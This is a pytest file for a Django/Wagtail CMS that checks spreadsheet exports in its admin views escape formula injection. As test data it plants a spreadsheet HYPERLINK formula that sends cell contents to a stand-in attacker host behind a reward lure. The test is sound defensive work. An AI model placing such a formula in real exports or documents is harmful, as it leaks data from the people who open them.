"""Every admin view that exports a spreadsheet is formula-safe: Kansha's snippet listings and
reports, and Wagtail's own reports and redirects listing (cms/admin_exports.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail.models import Page

from advocates.admin.exports import SafeSpreadsheetExportMixin
from cms.admin_exports import WAGTAIL_EXPORT_VIEWS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your reward")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _exporting_paths() -> list[str]:
    """Every admin URL whose view can export a spreadsheet (a route, with any parameter
    filled in by hand where needed)."""
    found = []

    def walk(patterns, prefix: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                view = getattr(pattern.callback, "view_class", None)
                if view is not None and issubclass(view, SpreadsheetExportMixin) \
                        and "<" not in str(pattern.pattern):
                    found.append("/" + prefix + str(pattern.pattern))

    walk(get_resolver().url_patterns, "")
    return sorted(set(found))


EXPORTING = _exporting_paths()


def test_the_search_finds_the_exports_this_test_is_about():
    assert "/admin/reports/site-history/" in EXPORTING
    assert "/admin/snippets/advocates/mention/" in EXPORTING
    assert "/admin/kansha-reports/redemptions/" in EXPORTING
    assert "/admin/redirects/" in EXPORTING


@pytest.mark.parametrize("url", EXPORTING)
def test_each_exporting_admin_view_is_formula_safe(url):
    """The view that answers the path (not only the one Wagtail registered) neutralises."""
    func = resolve(url).func
    view = func.view_class
    if not func.view_initkwargs.get("list_export", view.list_export):
        return  # a listing that exports no column (users, groups, images, ...) has no export
    assert issubclass(view, SafeSpreadsheetExportMixin), f"{url} exports raw cells ({view})"


@pytest.fixture
def admin_client(client, db):
    admin = get_user_model().objects.create_superuser("root", "root@example.com", "pw-tests")
    client.force_login(admin)
    return client, admin


def _cells(response, fmt: str) -> list[str]:
    assert response.status_code == 200, response
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    else:
        rows = [r for sheet in load_workbook(io.BytesIO(data))
                for r in sheet.iter_rows(values_only=True)]
    return [c for row in rows for c in row if isinstance(c, str)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wagtail_site_history_and_locked_pages_export_a_planted_title_as_text(admin_client,
                                                                             fmt):
    client, admin = admin_client
    root = Page.get_first_root_node()
    page = root.add_child(instance=Page(title=HYPERLINK, slug="planted"))
    page.locked, page.locked_by = True, admin
    page.save()
    log(page, "wagtail.edit", user=admin)
    for route in ("reports/site-history/", "reports/locked/"):
        assert route in WAGTAIL_EXPORT_VIEWS
        response = client.get(f"/admin/{route}", {"export": fmt})
        # A real name: what it is and the day it was taken.
        assert f'-{timezone.localdate():%Y-%m-%d}.{fmt}"' in response["Content-Disposition"]
        cells = _cells(response, fmt)
        assert "'" + HYPERLINK in cells, route
        assert not any(c.startswith(FORMULA_STARTS) for c in cells), route
